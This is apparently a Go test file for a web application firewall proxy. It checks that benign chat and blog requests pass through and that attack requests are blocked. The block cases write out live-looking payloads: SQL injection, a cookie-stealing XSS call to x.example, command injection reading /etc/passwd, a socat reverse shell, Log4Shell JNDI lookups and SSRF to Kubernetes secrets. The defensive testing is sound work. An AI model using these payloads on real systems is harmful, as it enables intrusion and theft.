package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// contextCase is one request sent through `warden serve`.
type contextCase struct {
	name, method, target, ct, body string
	header                         map[string]string
}

// send sends c through the proxy as a browser at client address ip
// (trusted_proxies lets the test pick it with X-Forwarded-For) and
// returns the status and body.
func (c contextCase) send(t *testing.T, proxy, ip string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(c.method, "http://"+proxy+c.target, strings.NewReader(c.body))
	if err != nil {
		t.Fatal(err)
	}
	if c.ct != "" {
		req.Header.Set("Content-Type", c.ct)
	}
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36")
	req.Header.Set("Accept", "*/*")
	req.Header.Set("X-Forwarded-For", ip)
	for k, v := range c.header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// checkPassBlock sends each case from its own address in network (for
// example "203.0.113."): every pass case must reach the app (hits counts
// its requests) with 200, every block case must get 403 "blocked" without
// reaching it.
func checkPassBlock(t *testing.T, proxy string, hits *atomic.Int64, network string, pass, block []contextCase) {
	t.Helper()
	for i, c := range pass {
		before := hits.Load()
		if code, body := c.send(t, proxy, fmt.Sprintf("%s%d", network, i+1)); code != http.StatusOK || hits.Load() != before+1 {
			t.Errorf("%s: got %d %q, want it passed to the app", c.name, code, body)
		}
	}
	for i, c := range block {
		before := hits.Load()
		code, body := c.send(t, proxy, fmt.Sprintf("%s%d", network, len(pass)+i+1))
		if code != http.StatusForbidden || !strings.Contains(body, `"blocked"`) || hits.Load() != before {
			t.Errorf("%s: got %d %q, want it blocked before the app", c.name, code, body)
		}
	}
}

func chatBody(text string) string {
	b, _ := json.Marshal(map[string]any{"model": "gpt-4o-mini", "messages": []map[string]string{{"role": "user", "content": text}}})
	return string(b)
}

func postBody(title, body string) string {
	b, _ := json.Marshal(map[string]string{"title": title, "body": body, "format": "markdown"})
	return string(b)
}

// TestServeJudgesValuesByContext sends, through `warden serve` with its
// default configuration, what people write to an AI chat and a blog (all
// must reach the app) and attacks where values execute (all must be
// blocked, never reaching it). Each request comes from its own address
// through a trusted proxy, so no ban from one case decides another.
func TestServeJudgesValuesByContext(t *testing.T) {
	var hits atomic.Int64
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "app")
	}))
	defer up.Close()
	cfg := filepath.Join(t.TempDir(), "warden.yaml")
	if err := os.WriteFile(cfg, []byte("trusted_proxies: [127.0.0.1/32]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startServe(t, "--config", cfg, "--upstream", up.URL, "--data", t.TempDir())

	pass := []contextCase{
		{name: "chat shell question", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: chatBody("Why does `cat /proc/cpuinfo | grep MHz` print nothing on my ARM board?")},
		{name: "chat sql question", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: chatBody("Fix this query: SELECT name FROM users WHERE id = 1 OR 1=1; why does it return every row?")},
		{name: "chat log4shell question", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: chatBody("I found ${jndi:ldap://x.example/a} in my nginx logs, what does it mean?")},
		{name: "chat xss question", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: chatBody("How do I escape <script>alert(1)</script> in a React component?")},
		{name: "chat traversal question", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: chatBody("What does ../../etc/passwd mean in a web server log?")},
		{name: "chat php question", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: chatBody("Explain this PHP: <?php system($_GET['cmd']); ?> is it dangerous?")},
		{name: "librechat ask", method: "POST", target: "/api/ask/openAI", ct: "application/json", body: `{"text":"Is <img src=x onerror=alert(1)> an XSS payload?","conversationId":"c1","endpoint":"openAI"}`},
		{name: "blog post with code", method: "POST", target: "/api/posts", ct: "application/json", body: postBody("Fetching JSON", "## Fetch\n\n```js\nfetch('/api/items').then(r => r.json()).then(render)\n```\n\nOr from a shell: `curl -s https://api.example.com/items | jq '.[0].name'`\n")},
		{name: "blog comment with a command", method: "POST", target: "/wp-comments-post.php", ct: "application/x-www-form-urlencoded", body: "comment=" + url.QueryEscape("use `rm -rf ./build` to clean") + "&comment_post_ID=12"},
		{name: "blog embed and button", method: "POST", target: "/api/posts", ct: "application/json", body: postBody("Video", "Here is the talk:\n\n<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe>\n<button onclick=\"save()\">Save for later</button>\n\nTell me what you think of it.")},
		{name: "search", method: "GET", target: "/search?q=" + url.QueryEscape("union select committee")},
		{name: "shop product with styled html", method: "PUT", target: "/admin/api/2024-01/products/632910392.json", ct: "application/json", body: `{"product":{"id":632910392,"body_html":"<p style=\"text-align:center\"><strong>Good snowboard!</strong></p><img src=\"https://cdn.example.com/s/board.jpg\" style=\"max-width:100%\" alt=\"Board\">"}}`},
		{name: "query document with operators", method: "POST", target: "/parse/classes/GameScore/query", ct: "application/json", body: `{"where":{"score":{"$gte":1000,"$lte":3000},"playerName":{"$ne":"cheater"}}}`},
		{name: "strapi filters", method: "GET", target: "/api/articles?filters[title][$eq]=hello&sort=publishedAt:desc"},
		{name: "job runner command", method: "POST", target: "/api/jobs", ct: "application/json", body: `{"schedule":"*/5 * * * *","command":"/usr/local/bin/backup.sh --full"}`},
	}
	block := []contextCase{
		{name: "sqli in an id", method: "GET", target: "/api/users?id=" + url.QueryEscape("1 UNION SELECT password FROM users--")},
		{name: "sqli breakout in a comment", method: "POST", target: "/wp-comments-post.php", ct: "application/x-www-form-urlencoded", body: "comment=" + url.QueryEscape("nice' UNION SELECT password FROM users--")},
		{name: "stored xss in a post", method: "POST", target: "/api/posts", ct: "application/json", body: postBody("hi", "Great news everyone! <img src=x onerror=fetch('//x.example/?c='+document.cookie)>")},
		{name: "command in a host field", method: "POST", target: "/api/ping", ct: "application/json", body: `{"host":"example.com; cat /etc/passwd"}`},
		{name: "traversal in a file parameter", method: "GET", target: "/download?file=" + url.QueryEscape("../../../../etc/passwd")},
		{name: "sql in a chat tool-call argument", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"},{"role":"assistant","content":null,"tool_calls":[{"id":"t1","type":"function","function":{"name":"lookup","arguments":"{\"id\":\"1' OR '1'='1' --\"}"}}]}]}`},
		{name: "jndi in a header", method: "GET", target: "/", header: map[string]string{"X-Api-Version": "${jndi:ldap://x.example/a}"}},
		{name: "jndi in the request id", method: "GET", target: "/", header: map[string]string{"X-Request-Id": "${jndi:rmi://x.example:1099/a}"}},
		{name: "nested jndi lookup in a header", method: "GET", target: "/", header: map[string]string{"X-Trace": "${${lower:jndi}:${lower:rmi}://x.example/a}"}},
		{name: "shell after a closed quote in a form", method: "POST", target: "/api/lookup", ct: "application/x-www-form-urlencoded", body: "name=" + url.QueryEscape("' & whoami")},
		{name: "sql comment breakout", method: "POST", target: "/login", ct: "application/x-www-form-urlencoded", body: "username=" + url.QueryEscape("admin'/*") + "&password=x"},
		{name: "fetch url to loopback", method: "POST", target: "/api/preview", ct: "application/json", body: `{"url":"http://localhost:80/admin"}`},
		{name: "angular sandbox escape", method: "GET", target: "/profile?name=" + url.QueryEscape("{{$on.constructor('alert(1)')()}}")},
		{name: "nosql operator login", method: "POST", target: "/api/login", ct: "application/json", body: `{"username":{"$gt":""},"password":{"$gt":""}}`},
		{name: "nosql where", method: "POST", target: "/api/users/search", ct: "application/json", body: `{"$where":"sleep(1000)"}`},
		{name: "styled html with a handler", method: "PUT", target: "/admin/api/2024-01/products/1.json", ct: "application/json", body: `{"product":{"body_html":"<p style=\"color:red\">Sale</p><img src=x onerror=alert(document.domain)>"}}`},
		{name: "nosql operator beside a query document", method: "POST", target: "/api/login", ct: "application/json", body: `{"filter":{},"username":{"$ne":null},"password":{"$ne":null}}`},
		{name: "reverse shell in a host field", method: "POST", target: "/api/ping", ct: "application/json", body: `{"host":"socat TCP:203.0.113.9:9001 EXEC:bash"}`},
		{name: "fetch url to a cluster service", method: "POST", target: "/api/preview", ct: "application/json", body: `{"url":"http://kubernetes.default.svc/api/v1/secrets"}`},
	}
	checkPassBlock(t, s.proxy, &hits, "203.0.113.", pass, block)
}
